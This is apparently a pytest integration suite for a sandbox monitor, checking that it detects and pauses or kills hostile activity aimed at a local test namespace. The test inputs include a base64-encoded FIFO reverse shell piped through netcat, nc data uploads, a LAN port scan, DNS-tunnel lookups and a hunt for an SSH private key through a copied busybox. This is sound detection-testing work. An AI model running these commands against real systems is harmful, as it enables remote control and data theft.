"""The monitor by what a sandbox does, with `coi run --monitor` and default settings: a short
command's reads, bytes streamed to one outside host, a scan of the LAN, a DNS tunnel, a key
hunt. coi runs as root here (the kernel's events and coi's per-sandbox nft table).

Every target is in a network namespace this module makes: "the internet" at a free /30 of
203.0.113.0/24 (a receiver that counts what arrives, a DNS server that logs the names it is
asked), and "the LAN", a private /28 routed into the same namespace. Routes are checked
before anything is sent; nothing else is ever addressed.
"""

from __future__ import annotations

import base64
import ipaddress
import json
import os
import secrets
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from tests.conftest import coi_argv
from tests.integration.conftest import wait_for

from coi.backend import IncusClient
from coi.monitor.storms import CLONES
from coi.network.hostnet import host_networks

pytestmark = pytest.mark.timeout(900)

TEST_NET = ipaddress.ip_network("203.0.113.0/24")
LAN_CANDIDATES = [ipaddress.ip_network(f"192.168.{n}.0/28") for n in range(200, 250)]
SINK_PORT = 9000

_SERVER = r"""
import socket, sys, threading
addr, count_file, dns_log = sys.argv[1], sys.argv[2], sys.argv[3]
total = [0]
def sink(conn):
    conn.settimeout(60)
    try:
        while data := conn.recv(65536):
            total[0] += len(data)
            open(count_file, "w").write(str(total[0]))
    except OSError:
        pass
    conn.close()
srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind((addr, 9000)); srv.listen(16)
def accept():
    while True:
        threading.Thread(target=sink, args=(srv.accept()[0],), daemon=True).start()
threading.Thread(target=accept, daemon=True).start()
log = open(dns_log, "a", buffering=1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((addr, 53))
while True:
    try:  # one odd packet must not end the server
        q, peer = s.recvfrom(512)
        i, labels = 12, []
        while i < len(q) and q[i]:
            labels.append(q[i + 1 : i + 1 + q[i]].decode(errors="replace")); i += 1 + q[i]
        log.write(".".join(labels) + "\n")
        s.sendto(q[:2] + b"\x81\x83" + q[4:6] + b"\x00" * 6 + q[12 : i + 5], peer)
    except OSError:
        pass
"""


@dataclass
class Net:
    ns: str
    veth: str
    host_ip: str
    addr: str  # "the internet": a byte sink on :9000, a DNS server on :53
    lan: ipaddress.IPv4Network  # "the LAN": routed into the namespace
    count_file: Path
    dns_log: Path
    procs: list[subprocess.Popen[bytes]] = field(default_factory=list)

    def received(self) -> int:
        try:
            return int(self.count_file.read_text() or 0)
        except (OSError, ValueError):
            return 0


def _run(*cmd: str) -> None:
    subprocess.run(cmd, check=True, capture_output=True)


def _route_ok(addr: str, veth: str) -> bool:
    out = subprocess.run(
        ["ip", "-o", "route", "get", addr], capture_output=True, text=True, check=True
    ).stdout
    return f" dev {veth} " in out + " "


@pytest.fixture(scope="module")
def net(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Net]:
    used = host_networks()
    free = [s for s in TEST_NET.subnets(new_prefix=30) if not any(s.overlaps(u) for u in used)]
    lans = [n for n in LAN_CANDIDATES if not any(n.overlaps(u) for u in used)]
    if not free or not lans:
        pytest.fail("no free TEST-NET /30 or private /28 on this machine")
    sub, lan = secrets.choice(free), secrets.choice(lans)
    host_ip, addr = (str(h) for h in list(sub.hosts())[:2])
    tag = secrets.token_hex(3)
    tmp = tmp_path_factory.mktemp("behaviour-net")
    n = Net(f"coimb-{tag}", f"cb{tag}", host_ip, addr, lan, tmp / "count", tmp / "dns.log")
    peer = f"cm{tag}"
    try:
        _run("ip", "netns", "add", n.ns)
        _run("ip", "link", "add", n.veth, "type", "veth", "peer", "name", peer)
        _run("ip", "link", "set", peer, "netns", n.ns)
        _run("ip", "addr", "add", f"{host_ip}/30", "dev", n.veth)
        _run("ip", "link", "set", n.veth, "up")
        _run("ip", "-n", n.ns, "addr", "add", f"{addr}/30", "dev", peer)
        _run("ip", "-n", n.ns, "addr", "add", str(lan), "dev", peer)
        _run("ip", "-n", n.ns, "link", "set", peer, "up")
        _run("ip", "-n", n.ns, "link", "set", "lo", "up")
        _run("ip", "-n", n.ns, "route", "add", "default", "via", host_ip)
        _run("ip", "route", "add", str(lan), "via", addr, "dev", n.veth)
        for a in (addr, str(lan[1]), str(lan[-2])):
            if not _route_ok(a, n.veth):
                pytest.fail(f"{a} does not route into the test namespace: nothing sent")
        n.procs.append(
            subprocess.Popen(
                [
                    "ip",
                    "netns",
                    "exec",
                    n.ns,
                    sys.executable,
                    "-c",
                    _SERVER,
                    addr,
                    str(n.count_file),
                    str(n.dns_log),
                ],
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
            )
        )
        for _ in range(100):
            out = subprocess.run(
                ["ip", "netns", "exec", n.ns, "ss", "-ltnu"], capture_output=True, text=True
            ).stdout
            if f"{addr}:{SINK_PORT} " in out and f"{addr}:53 " in out:
                break
            time.sleep(0.05)
        else:
            pytest.fail("the test servers did not start")
        yield n
    finally:
        for p in n.procs:
            p.kill()
            p.wait(timeout=5)
        subprocess.run(["ip", "route", "del", str(lan)], capture_output=True)
        subprocess.run(["ip", "link", "del", n.veth], capture_output=True)
        subprocess.run(["ip", "netns", "del", n.ns], capture_output=True)


@pytest.fixture
def env(build_env: dict[str, str], tmp_path: Path) -> dict[str, str]:
    """Default monitor settings (an empty config file), `--monitor` on the command line."""
    cfg = tmp_path / "coi.toml"
    cfg.write_text("")
    return {**build_env, "COI_CONFIG": str(cfg), "COI_HOME": str(tmp_path / "coi-home")}


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    d = tmp_path / "ws"
    d.mkdir()
    os.chown(d, 1500, 1500)
    return d


def _events(env: dict[str, str]) -> list[dict[str, Any]]:
    out = []
    for f in sorted((Path(env["COI_HOME"]) / "audit").glob("*.jsonl")):
        out += [json.loads(line) for line in f.read_text().splitlines()]
    return out


def _coi_containers(client: IncusClient) -> list[str]:
    return [n for n in client.instances.names() if n.startswith("coi-")]


def _run_watched(client: IncusClient, env: dict[str, str], ws: Path, script: str) -> Any:
    """`coi run --monitor` of `script` in the background: a paused sandbox waits for review,
    so the caller waits for the monitor's event, then removes the sandbox (see _end)."""
    argv = coi_argv(
        "run", "--monitor", "--image", "coi-tiny", "-w", str(ws), "--", "sh", "-c", script
    )
    return subprocess.Popen(
        argv, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )


def _end(client: IncusClient, proc: Any) -> tuple[str, str]:
    for name in _coi_containers(client):
        client.instances.delete(name, force=True)
    try:
        out, err = proc.communicate(timeout=60)
    except subprocess.TimeoutExpired:
        proc.kill()
        out, err = proc.communicate()
    return str(out), str(err)


def _frozen(client: IncusClient) -> bool:
    names = _coi_containers(client)
    return bool(names) and all(client.instances.get(n).status == "Frozen" for n in names)


def test_a_command_that_reads_300_mb_in_a_second_and_exits_is_raised(
    client: IncusClient, env: dict[str, str], ws: Path
) -> None:
    """300 MB read in a second (four 75 MB reads a quarter of a second apart), then the
    command ends: the sweeps (0.5 s apart at most), the kernel's exit records and the last
    look before `coi run` removes the sandbox count them. Raised (HIGH), whether while it
    runs (the sandbox is then paused) or at the last look."""
    proc = _run_watched(
        client, env, ws,
        "i=0; while [ $i -lt 4 ]; do dd if=/dev/zero of=/dev/null bs=1M count=75; sleep 0.25;"
        " i=$((i+1)); done",
    )  # fmt: skip
    try:
        wait_for(
            lambda: (
                proc.poll() is not None
                or any(e["title"] == "Large read burst" for e in _events(env))
            ),
            "the run to end or the read to be seen",
            120,
        )
    finally:
        _, err = _end(client, proc)
    reads = [e for e in _events(env) if e["title"] == "Large read burst"]
    assert reads, (_events(env), err)
    assert reads[0]["level"] == "high"
    assert reads[0]["evidence"]["filesystem"]["read_mb"] >= 100


def test_a_stream_to_an_outside_host_is_cut_at_the_cap_and_the_sandbox_paused(
    client: IncusClient, env: dict[str, str], ws: Path, net: Net
) -> None:
    """40 MB streamed to "the internet" (allowed by the restricted policy): the kernel's
    quota drops what would pass 10 MB to that address, and the monitor pauses the sandbox.
    The receiver counts what arrived."""
    proc = _run_watched(client, env, ws, f"head -c 40000000 /dev/zero | nc {net.addr} {SINK_PORT}")
    try:
        wait_for(
            lambda: any(e["title"] == "Upload limit reached" for e in _events(env)),
            "the upload to be stopped",
            150,
        )
        wait_for(lambda: _frozen(client), "the sandbox to be paused", 10)
        (event,) = [e for e in _events(env) if e["title"] == "Upload limit reached"]
        assert (event["level"], event["action"]) == ("high", "paused")
        assert event["evidence"]["network"]["remote"] == net.addr
        time.sleep(1)  # anything still in flight lands (nothing more can be sent)
        got = net.received()
        assert 1_000_000 < got < 10_000_000, got
    finally:
        _end(client, proc)


def test_a_scan_of_the_lan_is_counted_where_the_policy_refuses_it(
    client: IncusClient, env: dict[str, str], tmp_path: Path, ws: Path, net: Net
) -> None:
    """Fourteen addresses of a private range, one quick refused connect each (never alive at
    a sweep): each refusal is seen where the policy refuses it; the first raises, fourteen
    distinct targets are a scan. Not paused here, so the whole scan runs."""
    cfg = Path(env["COI_CONFIG"])
    cfg.write_text("[monitoring]\nauto_pause_on_high = false\n")
    targets = " ".join(str(net.lan[i]) for i in range(1, 15))
    res = subprocess.run(
        coi_argv(
            "run", "--monitor", "--image", "coi-tiny", "-w", str(ws), "--", "sh", "-c",
            f"for a in {targets}; do nc -w 1 $a 22 </dev/null; done; echo scanned",
        ),
        env=env, capture_output=True, text=True, timeout=180,
    )  # fmt: skip
    assert "scanned" in res.stdout, res.stderr
    titles = [(e["title"], e["level"]) for e in _events(env)]
    assert ("Private network access", "high") in titles, titles
    assert ("Network scan", "high") in titles, titles
    (scan,) = [e for e in _events(env) if e["title"] == "Network scan"]
    assert scan["evidence"]["scan"]["targets"] >= 10
    assert all(ipaddress.ip_address(h) in net.lan for h in scan["evidence"]["scan"]["hosts"])


def test_data_in_dns_names_is_a_tunnel_whatever_the_label_length(
    client: IncusClient, env: dict[str, str], ws: Path, net: Net
) -> None:
    """Hex chunks of 30 characters (under the 40-character label rule) under one domain,
    asked of the test's DNS server: seen at the sandbox's veth, judged by volume and
    entropy."""
    chunks = [secrets.token_hex(15) for _ in range(24)]
    lookups = "; ".join(f"nslookup {c}.x.exfil-coi.test {net.addr} >/dev/null 2>&1" for c in chunks)
    proc = _run_watched(client, env, ws, f"{lookups}; sleep 30")
    try:
        wait_for(
            lambda: any(e["title"] == "DNS tunnel" for e in _events(env)),
            "the tunnel to be seen",
            150,
        )
        (event,) = [e for e in _events(env) if e["title"] == "DNS tunnel"]
        assert (event["level"], event["action"]) == ("high", "paused")
        assert event["evidence"]["dns"]["domain"] == "exfil-coi.test"
        asked = net.dns_log.read_text().split() if net.dns_log.exists() else []
        assert any(c in name for name in asked for c in chunks)  # the queries did leave
    finally:
        _end(client, proc)


def test_a_key_held_open_by_a_copied_binary_is_a_credential_hunt(
    client: IncusClient, env: dict[str, str], ws: Path
) -> None:
    """A script (it reaches the container encoded: no command line names a key) copies
    busybox to /tmp/bb and reads a private key through it: seen by the process's open
    files, not by any text."""
    script = (
        'mkdir -p "$HOME/.ssh" && echo not-a-real-key > "$HOME/.ssh/id_ed25519"\n'
        'cp /bin/busybox /tmp/bb && /tmp/bb sleep 4 < "$HOME/.ssh/id_ed25519" &\n'
        'echo "reader=$!"; wait\n'
    )
    encoded = base64.b64encode(script.encode()).decode()
    res = subprocess.run(
        coi_argv(
            "run", "--monitor", "--image", "coi-tiny", "-w", str(ws), "--", "sh", "-c",
            f"echo {encoded} | base64 -d > /tmp/h.sh && sh /tmp/h.sh; echo done",
        ),
        env=env, capture_output=True, text=True, timeout=180,
    )  # fmt: skip
    assert "done" in res.stdout, res.stderr
    hunts = [e for e in _events(env) if e["title"] == "Credential access detected"]
    assert hunts, (_events(env), res.stdout, res.stderr[-1500:])
    assert any("/.ssh/id_ed25519" in f for e in hunts for f in e["evidence"]["files"])
    # The key is opened by the shell's child for the redirection, just before it becomes
    # /tmp/bb: its command line at the instant the open is read may still be the script's.
    # The process is named by its pid, which the exec does not change.
    reader = int(res.stdout.split("reader=")[1].split()[0])
    assert any(e["evidence"]["process"]["pid"] == reader for e in hunts), (hunts, reader)


def test_a_shell_behind_pipes_to_a_socket_is_killed_with_connection_tables_read_lazily(
    client: IncusClient, env: dict[str, str], ws: Path, net: Net
) -> None:
    """The FIFO pipeline (`cat f | sh -i | nc host port > f`) through a copy of busybox, from
    an encoded script: no command line says shell-over-network. The sweeps read the
    namespace's connection tables only when a process holds a new socket (or every 2 s):
    nc's new socket makes them read, and the shell is killed."""
    script = (
        "rm -f /tmp/f; mkfifo /tmp/f; cp /bin/busybox /tmp/busybox\n"
        f"/tmp/busybox cat /tmp/f | /tmp/busybox sh -i 2>&1 | /tmp/busybox nc {net.addr} "
        f"{SINK_PORT} > /tmp/f\n"
    )
    encoded = base64.b64encode(script.encode()).decode()
    res = subprocess.run(
        coi_argv(
            "run", "--monitor", "--image", "coi-tiny", "-w", str(ws), "--", "sh", "-c",
            f"echo {encoded} | base64 -d > /tmp/p.sh && sh /tmp/p.sh",
        ),
        env=env, capture_output=True, text=True, timeout=180,
    )  # fmt: skip
    assert res.returncode == 137, (res.returncode, res.stderr)
    (shell,) = [e for e in _events(env) if e["title"] == "Reverse shell detected"][:1]
    assert (shell["level"], shell["action"]) == ("critical", "killed")
    assert "/tmp/busybox sh -i" in shell["evidence"]["process"]["command"]


def test_an_allowlisted_host_is_not_capped(
    client: IncusClient, env: dict[str, str], ws: Path, net: Net
) -> None:
    """The same 40 MB stream, in allowlist mode with the receiver on the allowlist: all of it
    arrives and nothing is raised about it."""
    before = net.received()
    Path(env["COI_CONFIG"]).write_text(
        f'[network]\nmode = "allowlist"\nallowed_domains = ["{net.addr}"]\n'
    )
    res = subprocess.run(
        coi_argv(
            "run", "--monitor", "--image", "coi-tiny", "-w", str(ws), "--", "sh", "-c",
            f"head -c 40000000 /dev/zero | nc {net.addr} {SINK_PORT}; echo sent",
        ),
        env=env, capture_output=True, text=True, timeout=180,
    )  # fmt: skip
    assert "sent" in res.stdout, res.stderr
    assert not [e for e in _events(env) if e["level"] != "info"], _events(env)
    # The receiver counts every connection of the module: this one is what was added.
    wait_for(lambda: net.received() - before >= 40_000_000, "all of it to arrive", 15)
    assert net.received() - before == 40_000_000


def test_a_resume_gives_the_destination_its_cap_once_more(
    client: IncusClient, env: dict[str, str], ws: Path, net: Net
) -> None:
    """Paused at the cap, reviewed, `coi resume`: the stream goes on until it has sent the cap
    once more, then it is cut and paused again. Never more than the cap per review."""
    start = net.received()
    # A connection whose packets were dropped backs off (its retransmits wait minutes): the
    # uploader starts a new one every 4 s, up to 20 times.
    upload = f"timeout 4 nc {net.addr} {SINK_PORT}"
    proc = _run_watched(
        client, env, ws,
        f"i=0; while [ $i -lt 20 ]; do head -c 20000000 /dev/zero | {upload}; i=$((i+1)); done",
    )  # fmt: skip
    try:

        def overs() -> list[dict[str, Any]]:
            return [e for e in _events(env) if e["title"] == "Upload limit reached"]

        wait_for(lambda: overs() and _frozen(client), "the first pause", 150)
        first = net.received() - start
        (name,) = _coi_containers(client)
        res = subprocess.run(
            coi_argv("resume", name), env=env, capture_output=True, text=True, timeout=60
        )
        assert res.returncode == 0, res.stderr
        wait_for(lambda: len(overs()) >= 2 and _frozen(client), "the second pause", 60)
        time.sleep(1)
        second = net.received() - start - first
        assert first < 10_000_000 and 1_000_000 < second < 10_000_000, (first, second)
    finally:
        _end(client, proc)


def test_a_flood_of_idle_copies_under_the_limit_is_paused_by_the_quick_rule(
    client: IncusClient, env: dict[str, str], ws: Path
) -> None:
    """`sleep 60 &` about forty times a second, far under the process limit: the pids cgroup
    piles up, none ending, and the processes are idle copies of one program under one
    parent. The quick rule (storms.clones) pauses it; the five-second rule (storms.flood)
    would name no copies."""
    proc = _run_watched(
        client, env, ws,
        "i=0; while [ $i -lt 250 ]; do sleep 60 & sleep 0.02; i=$((i+1)); done; wait",
    )  # fmt: skip
    try:
        wait_for(
            lambda: any(e["title"] == "Process flood" for e in _events(env)),
            "the flood to be seen",
            60,
        )
        event = next(e for e in _events(env) if e["title"] == "Process flood")
        assert (event["level"], event["action"]) == ("high", "paused"), event
        assert event["evidence"]["process"]["command"] == "sleep", event
        assert event["evidence"]["process"]["copies"] >= CLONES, event
        wait_for(lambda: _frozen(client), "the pause", 10)
    finally:
        _end(client, proc)
